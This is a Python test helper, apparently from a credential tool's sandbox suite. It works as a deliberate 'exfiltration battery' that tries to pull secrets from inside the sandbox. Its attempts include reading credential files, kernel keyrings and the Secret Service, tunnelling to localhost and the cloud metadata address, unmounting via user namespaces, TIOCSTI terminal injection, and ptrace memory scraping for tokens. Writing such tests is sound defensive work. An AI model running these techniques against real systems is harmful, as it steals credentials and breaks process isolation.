"""The exfiltration battery: a hostile command run by tests/test_sandbox.py inside `authsome
run --proxy --sandbox`, knowing the layout (argv[1] is a JSON file of facts: the authsome
home, the store's paths, the bus addresses, the keyring's key names, the hosts). It never
knows a secret. It prints one JSON object: each attempt's name -> {"got": what it obtained,
or null; "why": why not}, and what it saw of other processes. The test looks for every
secret in all it printed, and checks that every "got" is null.
"""

import base64
import contextlib
import ctypes
import json
import os
import re
import socket
import subprocess
import sys
import urllib.parse
import urllib.request

FACTS = json.load(open(sys.argv[1]))  # noqa: SIM115
RESULTS: dict = {}
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
KEYCTL = {"x86_64": 250, "aarch64": 219, "riscv64": 219}[os.uname().machine]
KEYCTL_DESCRIBE, KEYCTL_SEARCH, KEYCTL_READ = 6, 10, 11
RINGS = {"@s": -3, "@u": -4, "@us": -5}
TOKEN_SHAPE = re.compile(rb"[ar]t-[A-Za-z0-9_-]{16}")  # the test server's tokens


def attempt(name):
    def record(function):
        try:
            RESULTS[name] = function()
        except Exception as e:  # noqa: BLE001 - every failure is an answer here
            RESULTS[name] = {"got": None, "why": f"{type(e).__name__}: {e}"}
        return function

    return record


def _authsome(*args):
    env = {**os.environ, **FACTS["env"]}
    out = subprocess.run([FACTS["authsome"], *args], env=env, capture_output=True, text=True,
                         timeout=60)  # fmt: skip
    return {"got": out.stdout if out.returncode == 0 else None, "why": out.stderr.strip(),
            "stdout": out.stdout}  # fmt: skip


# First, before the attempts below run authsome, which writes in the (empty) hidden home.
@attempt("store and session files")
def _files():
    got = {}
    for top in FACTS["files"]:
        for folder, _, names in os.walk(top) if os.path.isdir(top) else [("", [], [top])]:
            for name in names:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError), open(path, "rb") as f:
                    got[path] = f.read(1 << 20).decode("latin-1")
    return {"got": got or None, "why": "nothing there"}


def _through_proxy(request: bytes) -> bytes:
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode())
    sock = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
    with sock:
        sock.sendall(request.replace(b"\r\n\r\n", b"\r\nProxy-Authorization: Basic "
                                     + auth + b"\r\n\r\n", 1))  # fmt: skip
        answer = b""
        while b"\r\n\r\n" not in answer and (chunk := sock.recv(4096)):
            answer += chunk
        return answer


@attempt("this machine's services, tunnelled through the proxy")
def _tunnel():
    got, why = [], []
    _, port = FACTS["direct"][1]  # not a provider's host: the proxy would only tunnel it
    for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "169.254.169.254"):  # noqa: S104
        for request in (
            f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
            f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
        ):
            answer = _through_proxy(request.encode())
            status = answer.split(b"\r\n", 1)[0].decode("latin-1")
            refused = status.split(" ")[1:2] in (["403"], ["502"])  # the proxy's own answers
            (why if refused else got).append(f"{request.split()[1]}: {status}")
    return {"got": got or None, "why": why}


@attempt("unmount the hidden home from a user namespace of its own")
def _unmount():
    home = FACTS["env"]["AUTHSOME_HOME"]
    script = f"umount -l {home}; umount {home}; ls -A {home}"
    out = subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, text=True,
                         timeout=30)  # fmt: skip
    return {"got": out.stdout.strip() or None, "why": out.stderr.strip()}


@attempt("authsome token")
def _token():
    return _authsome("token", FACTS["provider"])


@attempt("authsome run (environment)")
def _run_env():
    return _authsome("run", FACTS["provider"], "--", "env")


@attempt("authsome run --proxy from inside")
def _nested_proxy():
    return _authsome("run", "--proxy", FACTS["provider"], "--", "sh", "-c", "echo $HTTPS_PROXY")


def _keyctl(*args):
    result = LIBC.syscall(KEYCTL, *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _read_key(serial: int) -> bytes:
    buf = ctypes.create_string_buffer(65536)
    size = _keyctl(KEYCTL_READ, serial, buf, 65536)
    return buf.raw[:size]


@attempt("kernel keyrings @u @us @s, and every key in /proc/keys")
def _keys():
    got, why = {}, []
    serials = set()
    with contextlib.suppress(OSError), open("/proc/keys") as f:
        serials.update(int(line.split()[0], 16) for line in f)
    for name, ring in RINGS.items():
        try:
            raw = _read_key(ring)
            serials.update(
                int.from_bytes(raw[i : i + 4], sys.byteorder) for i in range(0, len(raw), 4)
            )
        except OSError as e:
            why.append(f"read {name}: {e.strerror}")
        for description in FACTS["key_descriptions"]:
            try:
                serials.add(_keyctl(KEYCTL_SEARCH, ring, b"user", description.encode(), 0))
            except OSError as e:
                why.append(f"search {name}: {e.strerror}")
    for serial in serials:
        try:
            got[str(serial)] = _read_key(serial).decode("latin-1")
        except OSError as e:
            why.append(f"read {serial}: {e.strerror}")
    return {"got": got or None, "why": sorted(set(why))}


@attempt("Secret Service over the session bus")
def _secret_service():
    import secretstorage
    from jeepney.io.blocking import open_dbus_connection

    got, why = [], []
    for address in FACTS["buses"]:
        try:
            with open_dbus_connection(bus=address) as conn:
                for item in secretstorage.get_all_items(conn):
                    got.append([item.get_label(), item.get_secret().decode("latin-1")])
        except Exception as e:  # noqa: BLE001
            why.append(f"{address}: {type(e).__name__}: {e}")
    return {"got": got or None, "why": why}


@attempt("direct connections around the proxy")
def _direct():
    got, why = [], []
    for host, port in FACTS["direct"]:
        try:
            socket.create_connection((host, port), timeout=5).close()
            got.append(f"{host}:{port}")
        except OSError as e:
            why.append(f"{host}:{port}: {e}")
    return {"got": got or None, "why": why}


@attempt("type into the terminal (TIOCSTI)")
def _tiocsti():
    import fcntl
    import termios

    _, tty = os.openpty()
    try:
        fcntl.ioctl(tty, termios.TIOCSTI, b"x")
    except OSError as e:
        return {"got": None, "why": e.strerror, "errno": e.errno}
    return {"got": "typed", "why": ""}


def _others():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid())


@attempt("/proc/*/environ and /proc/*/cmdline")
def _proc():
    seen = {}
    for pid in _others():
        for what in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{what}", "rb") as f:
                seen[f"{pid}/{what}"] = f.read().decode("latin-1")
    return {"got": None, "why": "read, for the test to search", "seen": seen}


def _memory(pid: int) -> list[str]:
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "r" not in perms:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            with contextlib.suppress(OSError, ValueError, OverflowError):
                mem.seek(start)
                found += [m.decode() for m in TOKEN_SHAPE.findall(mem.read(end - start))]
    return found


@attempt("ptrace and read the memory of every visible process")
def _ptrace():
    got, why = {}, []
    for pid in _others():
        if LIBC.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            why.append(f"attach {pid}: {os.strerror(ctypes.get_errno())}")
            continue
        try:
            os.waitpid(pid, getattr(os, "__WALL", 0x40000000))
            found = _memory(pid)
            if found:
                got[str(pid)] = found
            why.append(f"read {pid}: no token in its memory")
        except OSError as e:
            why.append(f"read {pid}: {e}")
        finally:
            LIBC.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return {"got": got or None, "why": why}


@attempt("a request through the proxy")
def _proxied():
    url = f"{FACTS['api']}/upload"
    request = urllib.request.Request(url, data=b"hello", method="POST")  # noqa: S310
    with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310
        return {"got": None, "why": "the proxy signs it", "status": answer.status,
                "body": answer.read().decode()}  # fmt: skip


RESULTS["processes"] = {
    pid: open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")  # noqa: SIM115
    for pid in [*_others(), os.getpid()]
    if os.path.exists(f"/proc/{pid}/cmdline")
}
RESULTS["self"] = os.getpid()
print(json.dumps(RESULTS))
